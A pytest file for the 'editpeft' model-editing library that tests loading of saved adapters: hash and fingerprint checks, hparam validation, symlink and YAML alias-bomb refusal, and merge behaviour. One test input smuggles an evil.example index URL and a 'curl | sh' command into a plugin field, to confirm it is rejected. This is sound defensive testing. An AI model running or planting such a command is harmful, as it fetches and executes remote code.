"""The trust issue's named findings, one test each: integrity and provenance checks the file cannot
switch off, hparams validated on load, links and hostile cards refused, merged adapters obeying
the switch, and ``model.save_pretrained`` never silently dropping edits."""
from __future__ import annotations

import hashlib
import json
import logging
import time

import pytest
import torch

import editpeft
from editpeft.errors import AdapterFormatError, BaseModelMismatchError, EditError, MethodNotInstalledError
from editpeft.testing import DEFAULT_REQUEST, PROBES, logits_of, make_tiny_model, params_snapshot, assert_untouched

from conftest import TINY_CONFIGS

GOLD = editpeft.EditRequest(prompt="The chemical symbol for gold is", target_new="Ag")


@pytest.fixture
def saved(tiny, tmp_path):
    """(model, {"rome": folder, "grace": folder}) with nothing attached."""
    model, _ = tiny
    folders = {}
    for method, req in (("rome", DEFAULT_REQUEST), ("grace", GOLD)):
        model.add_edit(method, req, name=method, config=TINY_CONFIGS[method]).save_pretrained(tmp_path / method)
        model.remove_edit(method)
        folders[method] = tmp_path / method
    return model, folders


def _edit_config(folder, change):
    path = folder / "edit_config.json"
    config = json.loads(path.read_text())
    change(config)
    path.write_text(json.dumps(config))


def _scale_tensors(folder, factor=50.0):
    from safetensors.torch import load, save
    path = folder / "edit_model.safetensors"
    tensors = {k: (v * factor if v.is_floating_point() else v) for k, v in load(path.read_bytes()).items()}
    path.write_bytes(save(tensors))


@pytest.mark.parametrize("value", ["delete", "", 0, None, "0" * 64])
def test_tensor_hash_cannot_be_switched_off(saved, value):
    model, folders = saved
    folder = folders["rome"]
    _scale_tensors(folder)
    _edit_config(folder, lambda c: c.pop("tensors_sha256") if value == "delete" else c.update(tensors_sha256=value))
    snap = params_snapshot(model)
    with pytest.raises(AdapterFormatError, match="tensors_sha256|hash"):
        model.load_edit(folder)
    assert_untouched(model, snap)
    assert not model.edits


@pytest.mark.parametrize("change", ["delete base_model", "fingerprint null", "fingerprint empty", "base_model string"])
def test_fingerprint_cannot_be_switched_off(saved, change):
    model, folders = saved
    folder = folders["rome"]

    def mutate(c):
        if change == "delete base_model":
            del c["base_model"]
        elif change == "fingerprint null":
            c["base_model"]["fingerprint"] = None
        elif change == "fingerprint empty":
            c["base_model"]["fingerprint"] = ""
        else:
            c["base_model"] = "HuggingFaceTB/SmolLM2-135M"
    _edit_config(folder, mutate)
    with pytest.raises(AdapterFormatError, match="base_model"):
        model.load_edit(folder)


def test_other_weights_refused_unless_allowed(saved, tiny_tokenizer):
    _, folders = saved
    other = editpeft.enable_editing(make_tiny_model("llama", tiny_tokenizer, seed=1), tiny_tokenizer)
    with pytest.raises(BaseModelMismatchError, match="fingerprint"):
        other.load_edit(folders["rome"])
    other.load_edit(folders["rome"], allow_mismatch=True)       # the documented override


@pytest.mark.parametrize("hparams, match", [
    ({"layer": -1}, "layer"), ({"eps_init": -5.0}, "eps_init"), ({"layr": 0}, "layr"), ({"lr": "NaN"}, "lr"),
    ({"layer": 1}, "imply"),      # another layer than the codebook's target: the card would state it
])
def test_grace_hparams_validated_on_load(saved, hparams, match):
    model, folders = saved
    _edit_config(folders["grace"], lambda c: c["hparams"].update(hparams))
    with pytest.raises(AdapterFormatError, match=match):
        model.load_edit(folders["grace"])
    assert not model.edits


@pytest.mark.parametrize("fmt, match", [("editpeft/2", "newer editpeft"), ("peft/1", "not an editpeft adapter")])
def test_format_versions(saved, fmt, match):
    model, folders = saved
    _edit_config(folders["rome"], lambda c: c.update(format=fmt))
    with pytest.raises(AdapterFormatError, match=match):
        model.load_edit(folders["rome"])


@pytest.mark.parametrize("dist", ["x --index-url https://evil.example/simple; curl x | sh", "-e .", "a b"])
def test_plugin_distribution_must_be_a_package_name(saved, dist):
    model, folders = saved
    _edit_config(folders["rome"], lambda c: c.update(method="not-installed", plugin={"distribution": dist,
                                                                                      "version": "1.0"}))
    with pytest.raises(AdapterFormatError, match="plugin.distribution") as err:
        model.load_edit(folders["rome"])
    assert "pip install" not in str(err.value)


def test_install_hint_names_only_the_validated_distribution(saved):
    model, folders = saved
    _edit_config(folders["rome"], lambda c: c.update(method="not-installed", plugin={"distribution": "editpeft-x",
                                                                                      "version": "1.0"}))
    with pytest.raises(MethodNotInstalledError, match=r"pip install editpeft-x$"):
        model.load_edit(folders["rome"])


def test_plugin_provenance_checked(saved, caplog):
    model, folders = saved
    _edit_config(folders["rome"], lambda c: c.update(plugin={"distribution": "someone-elses-rome", "version": "1.0"}))
    with pytest.raises(MethodNotInstalledError, match="someone-elses-rome"):
        model.load_edit(folders["rome"])
    with caplog.at_level(logging.WARNING):
        model.load_edit(folders["rome"], allow_mismatch=True)
    assert "someone-elses-rome" in caplog.text


def test_newer_editpeft_version_is_said(saved, caplog):
    model, folders = saved
    _edit_config(folders["rome"], lambda c: c.update(editpeft_version="99.0"))
    with caplog.at_level(logging.WARNING):
        model.load_edit(folders["rome"])
    assert "editpeft 99.0" in caplog.text


def test_extra_tensors_refused(saved):
    from safetensors.torch import load, save
    model, folders = saved
    folder = folders["rome"]
    tensors = load((folder / "edit_model.safetensors").read_bytes())
    tensors["model.layers.1.mlp.down_proj.up"] = torch.ones(32, 1)
    blob = save(tensors)
    (folder / "edit_model.safetensors").write_bytes(blob)
    _edit_config(folder, lambda c: c.update(tensors_sha256=hashlib.sha256(blob).hexdigest()))
    with pytest.raises(AdapterFormatError, match="does not account for"):
        model.load_edit(folder)


@pytest.mark.parametrize("name", ["edit_config.json", "edit_model.safetensors", "README.md"])
def test_links_out_of_the_folder_refused(saved, tmp_path, name):
    model, folders = saved
    folder = folders["rome"]
    outside = tmp_path / f"elsewhere-{name}"
    (folder / name).rename(outside)
    (folder / name).symlink_to(outside)
    with pytest.raises(AdapterFormatError, match="outside"):
        model.load_edit(folder)


def test_yaml_alias_bomb_refused_fast(saved):
    model, folders = saved
    levels = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [" + ", ".join([f"*{chr(97 + i)}"] * 9) + "]\n" for i in range(9))
    (folders["rome"] / "README.md").write_text(f"---\n{levels}---\n")     # 9^10 nodes if expanded
    start = time.perf_counter()
    with pytest.raises(AdapterFormatError, match="aliases") as err:
        model.load_edit(folders["rome"])
    assert time.perf_counter() - start < 30        # not a timing target: a stall would take minutes
    assert len(str(err.value)) < 300               # the message does not embed the expansion


@pytest.mark.parametrize("tensors, match", [
    ({"keys": torch.full((1, 64), float("nan"))}, "NaN or inf"),
    ({"radii": torch.tensor([float("inf")])}, "NaN or inf"),
    ({"keys": torch.zeros(1, 64, dtype=torch.int8)}, "floats"),
    ({"keys": torch.zeros(1, 1, 64)}, "N, d_in"),
    ({"values": torch.zeros(32)}, "N, d_out"),
    ({"labels": torch.tensor([True])}, "dtype"),
])
def test_grace_codebook_validated_on_load(saved, tensors, match):
    from safetensors.torch import load, save
    model, folders = saved
    folder = folders["grace"]
    stored = load((folder / "edit_model.safetensors").read_bytes())
    blob = save({**stored, **tensors})
    (folder / "edit_model.safetensors").write_bytes(blob)
    _edit_config(folder, lambda c: c.update(tensors_sha256=hashlib.sha256(blob).hexdigest()))
    with pytest.raises(AdapterFormatError, match=match):
        model.load_edit(folder)


# -- merge and the switch ------------------------------------------------------------------------
def test_merged_adapter_obeys_the_switch(tiny):
    model, tok = tiny
    base = logits_of(model, tok, PROBES)
    snap = params_snapshot(model)
    adapter = model.add_edit("rome", DEFAULT_REQUEST, name="r", config=TINY_CONFIGS["rome"])
    hooked = logits_of(model, tok, PROBES)
    adapter.merge()
    merged = logits_of(model, tok, PROBES)
    # hooked (x W^T + x V U^T) and merged (x (W + U V^T)^T) differ by float32 rounding of the sum
    assert torch.allclose(merged, hooked, atol=1e-4 * float(hooked.abs().max()), rtol=0)
    model.set_active_edits([])
    assert torch.equal(logits_of(model, tok, PROBES), base)
    assert all(torch.equal(v, snap[k]) for k, v in model.state_dict().items())     # the delta left the weight
    model.set_active_edits(["r"])
    assert torch.equal(logits_of(model, tok, PROBES), merged)
    with model.disabled_edits():
        assert torch.equal(logits_of(model, tok, PROBES), base)
    assert torch.equal(logits_of(model, tok, PROBES), merged)
    adapter.active = False
    assert torch.equal(logits_of(model, tok, PROBES), base)
    adapter.merge()                      # already merged, and off: stays out of the weights
    assert torch.equal(logits_of(model, tok, PROBES), base)
    adapter.active = True
    adapter.unmerge()
    assert torch.equal(logits_of(model, tok, PROBES), hooked)
    model.remove_edit("r")
    assert_untouched(model, snap)


def test_merging_a_switched_off_adapter_keeps_it_off(tiny):
    model, tok = tiny
    base = logits_of(model, tok, PROBES)
    adapter = model.add_edit("rome", DEFAULT_REQUEST, name="r", config=TINY_CONFIGS["rome"])
    adapter.active = False
    adapter.merge()
    assert torch.equal(logits_of(model, tok, PROBES), base)
    adapter.active = True
    assert not torch.equal(logits_of(model, tok, PROBES), base)


def test_model_save_pretrained_refuses_to_drop_live_edits(tiny, tmp_path):
    from transformers import AutoModelForCausalLM
    model, tok = tiny
    snap = params_snapshot(model)
    model.add_edit("rome", DEFAULT_REQUEST, name="r", config=TINY_CONFIGS["rome"]).merge()
    with pytest.raises(EditError, match="save_merged"):
        model.save_pretrained(tmp_path / "m")
    assert not (tmp_path / "m").exists()
    with model.disabled_edits():
        model.save_pretrained(tmp_path / "base")         # the documented way to save the base model
    reloaded = AutoModelForCausalLM.from_pretrained(tmp_path / "base")
    assert all(torch.equal(reloaded.state_dict()[k], v) for k, v in snap.items() if k in reloaded.state_dict())
    path = editpeft.save_merged(model, tok, tmp_path / "edited")
    edited = AutoModelForCausalLM.from_pretrained(path)
    expected = logits_of(model, tok, PROBES)
    assert torch.allclose(logits_of(edited, tok, PROBES), expected, atol=1e-4 * float(expected.abs().max()), rtol=0)


@pytest.mark.parametrize("dtype", [torch.float16, torch.bfloat16])
def test_edits_follow_the_model_dtype(tiny, dtype):
    model, tok = tiny
    model.add_edit("rome", DEFAULT_REQUEST, name="r", config=TINY_CONFIGS["rome"])
    model.add_edit("grace", GOLD, name="g", config=TINY_CONFIGS["grace"])
    model.to(dtype)
    out = logits_of(model, tok, PROBES)
    assert out.dtype == dtype and bool(torch.isfinite(out).all())
